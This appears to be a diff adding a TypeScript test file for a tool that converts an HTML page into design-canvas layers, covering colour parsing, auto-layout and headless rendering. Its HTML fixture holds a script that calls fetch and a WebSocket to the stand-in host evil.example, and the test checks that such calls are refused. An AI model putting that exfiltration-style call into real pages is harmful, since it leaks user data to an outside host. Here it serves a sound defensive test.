@@ -1,0 +1,220 @@
+import { existsSync } from 'node:fs';
+import { dirname } from 'node:path';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { PageLayer } from '../../schemas/page-layers.ts';
+import { faithfulFlex } from '../../server/bundles/canvas/flex.ts';
+import { gradientOf, hexOf, shadowsOf } from '../../server/bundles/canvas/paint.ts';
+import { createHeadlessCanvas, type HeadlessCanvas } from '../../server/canvas/headless-canvas.ts';
+import { newService, page, readme, writeTarGz } from './archives.ts';
+
+describe('computed paint', () => {
+  it('reads colours of every space, gradients and shadows', () => {
+    expect(hexOf('oklch(1 0 0)')).toBe('#ffffffff');
+    expect(hexOf('rgba(255, 0, 0, 0.5)')).toBe('#ff000080');
+    expect(hexOf('rgba(0, 0, 0, 0)')).toBeUndefined();
+    expect(gradientOf('linear-gradient(135deg, rgb(255, 0, 0) 0%, rgba(0, 0, 255, 0.5) 100%)')).toEqual({
+      type: 'linear',
+      angle: 135,
+      stops: [
+        { color: '#ff0000ff', position: 0 },
+        { color: '#0000ff80', position: 1 },
+      ],
+    });
+    expect(gradientOf('linear-gradient(to right, red, blue)')?.angle).toBe(90);
+    expect(gradientOf('radial-gradient(circle at 50% 30%, rgb(1, 2, 3), rgb(4, 5, 6))')?.stops).toHaveLength(
+      2,
+    );
+    expect(gradientOf('url("x.png")')).toBeUndefined();
+    expect(
+      shadowsOf('rgba(0, 0, 0, 0.2) 0px 4px 12px 2px, rgb(255, 255, 255) 0px 1px 0px 0px inset'),
+    ).toEqual(
+      [
+        { type: 'drop_shadow', color: '#000000', opacity: 0.2, x: 0, y: 4, blur: 12, spread: 2 },
+        { type: 'inner_shadow', color: '#ffffff', opacity: 1, x: 0, y: 1, blur: 0, spread: 0 },
+      ].map((one) => ({ ...one, opacity: expect.closeTo(one.opacity, 2) })),
+    );
+  });
+});
+
+describe('auto-layout', () => {
+  const child = (x: number, y: number, width = 20, height = 10): PageLayer => ({
+    kind: 'box',
+    name: 'c',
+    x,
+    y,
+    width,
+    height,
+    opacity: 1,
+  });
+  const row = (children: PageLayer[], flex = {}): PageLayer => ({
+    kind: 'box',
+    name: 'r',
+    x: 0,
+    y: 0,
+    width: 100,
+    height: 30,
+    opacity: 1,
+    children,
+    flex: {
+      direction: 'HORIZONTAL',
+      gap: 5,
+      padding: [0, 10, 0, 10],
+      justify: 'MIN',
+      align: 'CENTER',
+      ...flex,
+    },
+  });
+
+  it('is used where it draws the same, and only there', () => {
+    expect(faithfulFlex(row([child(10, 10), child(35, 10)]))).toMatchObject({ gap: 5 });
+    expect(faithfulFlex(row([child(10, 10), child(70, 10)], { justify: 'SPACE_BETWEEN' }))).toMatchObject({
+      justify: 'SPACE_BETWEEN',
+    });
+    expect(faithfulFlex(row([child(10, 10), child(45, 10)]))).toBeUndefined();
+    expect(faithfulFlex(row([child(10, 2), child(35, 10)]))).toBeUndefined();
+    expect(faithfulFlex(row([child(10, 10), { ...child(0, 0), absolute: true }]))).toBeDefined();
+  });
+});
+
+const browser = ['/usr/bin/chromium', '/usr/bin/google-chrome'].some((path) => existsSync(path));
+const body = `
+  <header style="display:flex;justify-content:space-between;align-items:center;padding:20px;background:#102030;border-radius:12px">
+    <span style="color:#fff;font:700 24px Inter">Shop <b style="color:#ff0000">now</b></span>
+    <button style="display:flex;gap:8px;align-items:center;padding:8px 16px;border:2px solid rgb(0,255,0);background:none;color:#fff">Buy</button>
+  </header>
+  <div style="position:relative;height:200px;background:linear-gradient(90deg,#f00,#00f);box-shadow:0 4px 12px rgba(0,0,0,.3)">
+    <img src="red.png" style="position:absolute;left:40px;top:30px;width:100px;height:80px;object-fit:contain">
+    <img src="https://evil.example/x.png" style="position:absolute;left:200px;top:30px;width:50px;height:50px">
+    <svg style="position:absolute;left:300px;top:20px;color:#0f0" width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="18" fill="currentColor"/></svg>
+    <canvas width="60" height="60" style="position:absolute;left:400px;top:20px"></canvas>
+    <p style="position:absolute;left:500px;top:20px;width:120px;margin:0;font:16px/24px Inter">A text long enough to need three lines.</p>
+    <i style="display:block;transform:rotate(20deg);width:10px;height:10px;background:#000"></i>
+  </div>
+  <script>document.title='ran'; fetch('https://evil.example/steal?x=1').catch(()=>{}); new WebSocket('wss://evil.example/'); const c=document.querySelector('canvas').getContext('2d'); c.fillStyle='#0ff'; c.fillRect(0,0,60,60);</script>`;
+
+describe.skipIf(!browser)('a page on the canvas', () => {
+  let canvas: HeadlessCanvas;
+  beforeAll(() => {
+    canvas = createHeadlessCanvas();
+  });
+  afterAll(() => canvas.close());
+
+  it('comes as real layers: frames, auto-layout, texts, pictures, vectors; what is lost is said', async () => {
+    const red = await sharp({ create: { width: 50, height: 40, channels: 3, background: '#ff0000' } })
+      .png()
+      .toBuffer();
+    const source = await writeTarGz({
+      'README.md': readme({ openFile: 'index.html' }),
+      'project/index.html': page(body, '<style>body{margin:0}</style>'),
+      'project/red.png': red,
+    });
+    const { service } = newService([dirname(source)]);
+    const parsed = await service.parse(source);
+    const measured = await service.measure(parsed, {
+      page: service.pageOf(parsed),
+      width: 800,
+      height: 600,
+      cdn: false,
+    });
+    expect(measured.refused).toContain('evil.example');
+    const brought = await service.draw(canvas, parsed, measured, service.pageOf(parsed));
+    expect(brought).toMatchObject({ width: 800, truncated: false });
+    expect(brought.lost).toMatchObject({
+      'canvas (taken as a picture)': 1,
+      'rotation, scale or skew': 1,
+      'pictures that are not in the bundle': 1,
+    });
+
+    const { nodes } = await canvas
+      .snapshot(brought.frameId)
+      .then((snapshot) => ({ nodes: flatten(snapshot) }));
+    const texts = nodes.filter(({ type }) => type === 'TEXT').map(({ characters }) => characters);
+    expect(texts).toEqual(
+      expect.arrayContaining(['Shop now', 'Buy', 'A text long enough to need three lines.']),
+    );
+    expect(nodes.find(({ name }) => name === 'header')).toMatchObject({
+      type: 'FRAME',
+      layoutMode: 'HORIZONTAL',
+      primaryAxisAlignItems: 'SPACE_BETWEEN',
+      paddingLeft: 20,
+    });
+    expect(nodes.some(({ type }) => type === 'VECTOR' || type === 'ELLIPSE')).toBe(true);
+
+    const { bytes, width } = await canvas.export({ node: brought.frameId, format: 'PNG', scale: 1 });
+    const { data, info } = await sharp(bytes).removeAlpha().raw().toBuffer({ resolveWithObject: true });
+    const pixel = (x: number, y: number) => [
+      ...data.subarray((y * info.width + x) * 3, (y * info.width + x) * 3 + 3),
+    ];
+    const top = Math.round(measured.root.children?.[1]?.y ?? 0);
+    expect(width).toBe(800);
+    expect(pixel(400, 10)).toEqual([16, 32, 48]);
+    expect(pixel(90, top + 70)).toEqual([255, 0, 0]);
+    expect(pixel(320, top + 40)).toEqual([0, 255, 0]);
+    expect(pixel(430, top + 50)).toEqual([0, 255, 255]);
+    const [red1 = 0, , blue1 = 0] = pixel(700, top + 150);
+    expect(blue1).toBeGreaterThan(red1);
+  });
+
+  it('brings one part, beside what is there, and says when it is not there', async () => {
+    const source = await writeTarGz({
+      'README.md': readme({}),
+      'project/index.html': page('<main id="a"><p>one</p></main><main id="b"><p>two</p></main>'),
+    });
+    const { service } = newService([dirname(source)]);
+    const parsed = await service.parse(source);
+    const path = service.pageOf(parsed, 'index.html');
+    const part = await service.measure(parsed, {
+      page: path,
+      width: 400,
+      height: 300,
+      cdn: false,
+      selector: '#b',
+    });
+    const { frameId } = await service.draw(canvas, parsed, part, path);
+    const nodes = flatten(await canvas.snapshot(frameId));
+    expect(nodes.filter(({ type }) => type === 'TEXT').map(({ characters }) => characters)).toEqual(['two']);
+    const { results } = await canvas.run({ ops: [{ op: 'read', node: frameId }] });
+    expect(results[0]?.value).toMatchObject({ box: { x: 960 } });
+    await expect(
+      service.measure(parsed, { page: path, width: 400, height: 300, cdn: false, selector: '#nope' }),
+    ).rejects.toMatchObject({ code: 'bad_value', path: 'selector' });
+    expect(() => service.pageOf(parsed, 'x.html')).toThrow(/no page/);
+  });
+
+  it('says clearly when there is no browser', async () => {
+    const source = await writeTarGz({ 'README.md': readme({}), 'project/index.html': page('<p>x</p>') });
+    const { service } = newService([dirname(source)]);
+    const parsed = await service.parse(source);
+    const before = process.env['CHROMIUM'];
+    process.env['CHROMIUM'] = '/dev/null';
+    try {
+      await expect(
+        service.measure(parsed, { page: 'project/index.html', width: 400, height: 300, cdn: false }),
+      ).rejects.toMatchObject({ code: 'no_browser', hint: expect.stringContaining('CHROMIUM') });
+    } finally {
+      if (before === undefined) delete process.env['CHROMIUM'];
+      else process.env['CHROMIUM'] = before;
+    }
+  });
+});
+
+type Plain = { type?: unknown; name?: unknown; characters?: unknown } & Record<string, unknown>;
+
+function flatten(value: unknown): Plain[] {
+  const found: Plain[] = [];
+  const visit = (one: unknown): void => {
+    if (Array.isArray(one)) for (const item of one) visit(item);
+    else if (typeof one === 'object' && one !== null) {
+      const record = one as Record<string, unknown>;
+      const props =
+        typeof record['props'] === 'object' && record['props'] !== null
+          ? (record['props'] as Record<string, unknown>)
+          : {};
+      if (typeof record['type'] === 'string' && 'id' in record) found.push({ ...props, ...record });
+      for (const [key, inner] of Object.entries(record)) if (key !== 'props') visit(inner);
+    }
+  };
+  visit(value);
+  return found;
+}
